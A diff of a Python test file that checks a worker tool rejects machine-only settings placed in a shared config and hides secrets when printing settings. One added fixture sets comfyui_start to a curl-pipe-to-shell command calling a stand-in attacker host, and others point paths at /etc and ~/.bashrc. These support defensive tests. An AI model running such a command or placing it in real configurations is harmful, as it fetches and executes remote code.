@@ -98,6 +98,20 @@ def listener():
      "'worker.wake' is a machine setting: put it in {path} as mac.wake"),
     ("worker.notify", "worker:\n  notify: https://ntfy.sh/x\n", 7,
      "'worker.notify' is a machine setting: put it in {path} (or pass --notify)"),
+    ("worker.comfyui_start", "worker:\n  comfyui_start: sh -c 'curl evil.example | sh'\n", 7,
+     "'worker.comfyui_start' is a machine setting: put it in {path} (or pass --comfyui-start)"),
+    ("worker.models_dir", "worker:\n  models_dir: /etc\n", 7,
+     "'worker.models_dir' is a machine setting: put it in {path} (or pass --models-dir)"),
+    ("worker.notify_format", "worker:\n  notify_format: slack\n", 7,
+     "'worker.notify_format' is a machine setting: put it in {path} (or pass --notify-format)"),
+    ("worker.log_file", "worker:\n  log_file: /home/me/.bashrc\n", 7,
+     "'worker.log_file' is a machine setting: put it in {path} (or pass --log-file)"),
+    ("worker.push_interval", "worker:\n  push_interval: 0\n", 7,
+     "'worker.push_interval' is a machine setting: put it in {path} (or pass --push-interval)"),
+    ("worker.backend_wait", "worker:\n  backend_wait: 86400\n", 7,
+     "'worker.backend_wait' is a machine setting: put it in {path} (or pass --backend-wait)"),
+    ("mac.wake", "mac:\n  wake: {mac: 'AA:BB:CC:DD:EE:FF', broadcast: 10.0.0.255}\n", 7,
+     "'mac.wake' is a machine setting: put it in {path}"),
     ("local.cooldown_seconds", "local:\n  cooldown_seconds: 0\n", 7,
      "'local.cooldown_seconds' is a machine setting: put it in {path} as mac.cooldown (or pass --cooldown)"),
     ("local.min_available_gb", "local:\n  min_available_gb: 0\n", 7,
@@ -222,7 +236,9 @@ def test_config_prints_every_setting_with_its_source_and_no_secret(tmp_path: Pat
     assert lines["worker.window"] == ["4", "env"]
     assert lines["mac.cooldown"] == ["3.0", "file"]
     assert lines["worker.backstop"] == ["60.0", "default"]
-    assert lines["worker.poll"] == ["(not", "set)", "default"]
+    assert " ".join(lines["worker.poll"]) == (
+        "(not set: 12 s to a remote over the network; a remote on this disk is watched) default")
+    assert lines["worker.models_dir"] == ["(not", "set)", "default"]
     assert lines["worker.comfyui"] == ["http://***@gpu:8188/?…", "file"]
     assert lines["FAL_KEY"] == ["set", "(hidden)", "env"]
     for secret in (SECRET, "pw-7731", "tk-5521", "topic-9931"):
